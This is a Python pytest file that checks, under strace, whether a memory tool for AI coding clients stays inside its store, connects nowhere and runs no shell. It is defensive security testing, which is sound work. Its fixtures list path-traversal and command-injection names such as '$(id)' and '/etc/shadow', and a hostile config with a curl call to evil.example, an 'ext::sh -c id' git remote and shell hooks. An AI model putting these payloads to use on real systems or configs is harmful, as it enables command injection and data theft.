"""What is opened, connected to and run, whatever a name, a setting or a repository says."""

from __future__ import annotations

import json
import os
import re
import shutil
import sys
from pathlib import Path

import pytest
from tests.cli.running import Person
from tests.hooks.machine import EVENTS, Machine

from .tracing import PROGRAM, Trace, require_strace, traced

# Where the interpreter, its libraries and the kernel's own files are.
SYSTEM = (
    "/etc/gitconfig",  # git's own
    sys.base_prefix,
    sys.prefix,
    "/usr/",
    "/lib",
    "/etc/ld.so.",
    "/etc/localtime",
    "/proc",
    "/sys/",
    *("/dev/null", "/dev/tty", "/dev/urandom", "/dev/pts/"),  # but not what is in memory
    "/bin/",
    "/opt/",
)
NAMES = (
    "../../outside", "..", ".", "/etc/shadow", "..\\..\\outside", "%2e%2e/outside", "a/../../outside", "~/outside",
    "x" * 300, "con", "CON", ".git", "-rf", "--help-me", "\u202eexe.md", "a\nb", "a b", "ａ", "$HOME", "`id`", "$(id)", "a;id",
    "file:///etc/shadow", "archive/../../../outside", "core/../../outside", "MEMORY", "journal", "config.toml",
)  # fmt: skip


# Runs several commands in one process and exits with the number of those that succeeded.
SEVERAL = """
import json, sys
from recollect.interfaces.cli.main import main
good = 0
for words in json.loads(sys.argv[1]):
    sys.argv = ["recollect", *words]
    try:
        main()
    except SystemExit as end:
        good += not end.code
sys.exit(good)
"""


def _traced(person: Person, *words: str, **env: str) -> Trace:
    whole = person.environment({"PYTHONPATH": os.pathsep.join(_ours()), **env})
    return traced([*PROGRAM, *words], cwd=person.project, env=whole)


def traced_together(person: Person, commands: list[list[str]]) -> Trace:
    """All of these commands in one process; the exit code is the number of those that succeeded."""
    whole = person.environment({"PYTHONPATH": os.pathsep.join(_ours())})
    several = [sys.executable, "-c", SEVERAL, json.dumps(commands)]
    return traced(several, cwd=person.project, env=whole)


def _ours() -> list[str]:
    import recollect

    return [str(Path(recollect.__file__).parents[1])]


def opened_outside(trace: Trace, person: Person) -> set[str]:
    """What was opened that is neither ours, nor the interpreter's, nor the person's stores."""
    mine = (
        str(person.store),
        str(person.home / ".claude"),
        str(person.home / ".codex" / "config.toml"),  # where Codex notes its plugins
        *(str(person.home / name / "recollect") for name in (".cache", ".config", ".local/share")),
        *_ours(),
        str(Path(__file__).resolve().parents[2]),
    )
    ways = {str(person.project), str(person.home)}  # looked at on the way to a store
    return {
        path
        for path in trace.opened
        if not path.startswith((*SYSTEM, *mine))
        and path not in ways
        and not path.startswith((f"{person.project}/.git", f"{person.project}/.claude"))
    }


@pytest.mark.slow
@pytest.mark.parametrize("command", ["show", "edit", "forget", "memory-get", "show-session", "set"])
def test_nothing_outside_the_stores_is_opened_whatever_a_name_says(
    command: str, person: Person
) -> None:
    require_strace()
    canary = person.project / "outside.md"
    canary.write_text("a canary\n")
    (person.store / "semantic").mkdir(exist_ok=True)
    more = {"edit": ["--body", "x"], "set": ["salience=high"]}.get(command, [])
    trace = traced_together(person, [[command, *more, "--", name] for name in NAMES])
    assert trace.code == 0  # none succeeded
    assert opened_outside(trace, person) == set()
    assert canary.read_text() == "a canary\n"


@pytest.mark.slow
def test_new_memories_stay_in_the_store_whatever_their_titles_say(person: Person) -> None:
    require_strace()
    saves = [["save", "--body", "x", "--tags", n, "--files", n, "--", n] for n in NAMES]
    trace = traced_together(person, saves)
    assert trace.code > len(NAMES) / 2
    assert opened_outside(trace, person) == set()
    for path in person.store.rglob("*.md"):
        assert path.resolve().is_relative_to(person.store.resolve())
        assert len(path.stem) <= 80
        assert path.name == "MEMORY.md" or path.stem.replace("-", "").replace("_", "").isalnum()
        assert path.stem.lower() not in ("con", "nul", ".git")


@pytest.mark.slow
def test_links_pipes_and_devices_in_a_store_are_not_followed(person: Person) -> None:
    require_strace()
    secret = person.home / "id_rsa"
    secret.write_text("canary-of-the-key\n")
    folder = person.store / "semantic"
    folder.mkdir(exist_ok=True)
    (folder / "link.md").symlink_to(secret)
    (folder / "dangling.md").symlink_to(person.home / "nothing")
    (folder / "loop.md").symlink_to(folder / "loop.md")
    shutil.rmtree(person.store / "reference", ignore_errors=True)
    (person.store / "reference").symlink_to(person.home)
    os.mkfifo(folder / "pipe.md")

    for words in (("list",), ("search", "canary"), ("show", "link"), ("consolidate",), ("doctor",), ("doctor", "--secrets"), ("rebuild-index",)):  # fmt: skip
        trace = _traced(person, *words)
        assert str(secret) not in trace.opened, words
        assert opened_outside(trace, person) == set(), words
        assert "canary-of-the-key" not in person.run(*words).out
    kept = [p for root in (person.store, person.home / ".cache") for p in root.rglob("*")]
    assert not [p for p in kept if p.is_file() and not p.is_symlink() and b"canary-of-the-key" in p.read_bytes()]  # fmt: skip


@pytest.mark.slow
def test_a_session_is_recorded_in_the_journal_whatever_it_is_called(machine: Machine) -> None:
    names = [name for name in NAMES if name] + ["\0", "a" * 5_000, "数据", "/", "//", "a/b", "."]
    for name in names:
        machine.fire("PostToolUse", session_id=name)
    files = list((machine.root / "journal").iterdir())
    said = [json.loads(line)["session"] for file in files for line in file.read_text().splitlines()]
    assert sorted(said) == sorted(names)
    assert all(re.fullmatch(r"[\w-]{1,100}\.jsonl", file.name) for file in files)
    assert {file.parent for file in machine.folder.rglob("*.jsonl")} == {machine.root / "journal"}


# --------------------------------------------------------------------------------- egress, exec

COMMANDS: tuple[tuple[str, ...], ...] = (
    ("init", "--client", "claude"),
    ("save", "Use Redis", "--body", "See https://example.org and http://10.0.0.1/x."),
    ("add-decision", "Use SQLite", "It is there"),
    ("memory-set", "project", "The teapot of https://example.org"),
    ("search", "redis"),
    ("recall", "which cache do we use?"),
    ("recall", "--start"),
    ("show", "use-redis", "--level", "3"),
    ("list",),
    ("stats",),
    ("history",),
    ("review",),
    ("conflicts",),
    ("set", "use-redis", "salience=high"),
    ("forget", "use-redis"),
    ("undo",),
    ("consolidate",),
    ("rebuild-index",),
    ("doctor",),
    ("doctor", "--secrets"),
    ("doctor", "--repair"),
    ("capture", "."),
    ("analyze-skills",),
    ("mcp",),
    ("uninstall",),
)
HOSTILE = """
lang = "en"
editor = "sh -c 'touch /tmp/owned'"
root = "/"
trust = "all"
[capture]
model = "https://evil.example/v1"
command = "curl https://evil.example"
[sync]
remote = "ext::sh -c id"
[hooks]
SessionStart = "id"
"""


def is_allowed(argv: list[str]) -> bool:
    """Our own interpreter, with arguments, never a shell; git without what a repository may run."""
    if argv[2:6] == ["-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null"]:
        return argv[0] == "/usr/bin/git"
    return os.path.basename(argv[0]).startswith("python")


@pytest.mark.slow
@pytest.mark.parametrize("hostile", [False, True], ids=["plain", "hostile-settings"])
def test_no_command_connects_or_runs_anything(hostile: bool, person: Person) -> None:
    require_strace()
    if hostile:
        (person.store / "config.toml").write_text(HOSTILE)
    for words in COMMANDS:
        trace = _traced(person, *words, EDITOR="/bin/false", PAGER="/bin/false")
        assert trace.connected == set(), words
        assert [argv for argv in trace.run if not is_allowed(argv)] == [], words


@pytest.mark.slow
def test_no_hook_connects_or_runs_anything_but_the_worker(machine: Machine) -> None:
    require_strace()
    machine.write("semantic/billing.md", "The billing events are in Postgres, https://example.org.")
    (machine.root / "config.toml").write_text(HOSTILE)
    for event in EVENTS:
        stdin = json.dumps(machine.payload(event)).encode()
        trace = traced([*machine.hook, event], cwd=machine.project, env=machine.env, stdin=stdin)
        assert trace.code == 0
        assert trace.connected == set(), event
        assert [argv for argv in trace.run if not is_allowed(argv)] == [], event


@pytest.mark.slow
def test_what_is_set_in_the_environment_is_in_no_file(machine: Machine) -> None:
    env = {**machine.env, "TEAPOT_VARIABLE": "canary-of-the-environment"}
    for event in EVENTS:
        machine.fire(event, env=env)
    (machine.root / "config.toml").write_text("lang = [")
    machine.feed("SessionStart", b"{not json", env=env)
    machine.settle()
    kept = [p for p in machine.folder.rglob("*") if p.is_file() and not p.is_symlink()]
    assert kept
    assert not [p for p in kept if b"canary-of-the-environment" in p.read_bytes()]


# ---------------------------------------------------------------------------------- permissions


@pytest.mark.sampled(1)
@pytest.mark.parametrize("umask", [0o000, 0o022, 0o077])
def test_nobody_else_can_read_anything_under_any_umask(umask: int, tmp_path: Path) -> None:
    home, project = tmp_path / "home", tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    home.mkdir()
    person = Person(home, project)
    before = os.umask(umask)
    try:
        person.ok("init", "--scope", "both", "--client", "claude")
        person.ok("save", "Use Redis", "--body", "For sessions.")
        person.ok("save", "A private one", "--private")
        person.ok("memory-set", "project", "The teapot.")
        person.ok("start-session", "Tea at five")
        person.ok("consolidate")
        person.ok("doctor", "--repair")
        person.ok("search", "redis")
    finally:
        os.umask(before)
    roots = (person.store, home / ".claude" / "memory", home / ".cache" / "recollect")
    made = [p for root in roots for p in (root, *root.rglob("*"))]
    assert len(made) > 20
    assert not [f"{p} {p.stat().st_mode:o}" for p in made if p.stat().st_mode & 0o077]


def test_doctor_names_what_others_can_read_and_mends_it(person: Person) -> None:
    memory = Path(person.ok("save", "Use Redis", "--body", "For sessions.", "--json").json["path"])
    caches = [path for path in (person.home / ".cache" / "recollect").iterdir() if path.is_dir()]
    opened = [memory, memory.parent, person.store]
    opened += [path for cache in caches for path in (cache, *cache.glob("index.db*"))]
    for path in opened:
        path.chmod(0o755 if path.is_dir() else 0o644)
    assert "readable by others" in person.run("doctor").out
    assert opened[0].stat().st_mode & 0o077  # looking changes nothing
    person.run("doctor", "--repair")
    assert not [path for path in opened if path.stat().st_mode & 0o077]
    assert "only you can read the store" in person.run("doctor").out


def test_what_is_opened_by_the_handle_of_a_folder_is_seen_where_it_is(person: Person) -> None:
    require_strace()
    (person.home.parent / "elsewhere 没").mkdir()
    (person.home.parent / "elsewhere 没" / "canary.md").write_text("a canary\n")
    code = "import os; os.open('canary.md', os.O_RDONLY, dir_fd=os.open('../elsewhere 没', os.O_RDONLY))"
    trace = traced([sys.executable, "-c", code], cwd=person.project, env=person.environment({}))
    assert trace.code == 0
    assert str(person.home.parent / "elsewhere 没" / "canary.md") in opened_outside(trace, person)
